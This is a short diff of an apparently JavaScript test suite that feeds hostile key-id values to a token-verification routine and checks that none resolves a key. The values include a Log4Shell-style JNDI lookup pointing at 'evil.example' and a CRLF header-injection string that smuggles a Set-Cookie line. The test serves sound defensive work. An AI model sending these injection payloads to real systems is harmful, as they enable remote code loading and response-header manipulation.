@@ -30,7 +30,7 @@ describe('kid', () => {
     'issuer‑key',
     'k'.repeat(8000),
     '😀',
-    '${jndi:ldap://evil.example}',
+    '$\u007bjndi:ldap://evil.example}',
     'a\r\nSet-Cookie: x=y',
   ])('%j finds no key and breaks nothing [8725-3.10]', async (kid) => {
     const attacker = generateKeyPair('ES256', kid)
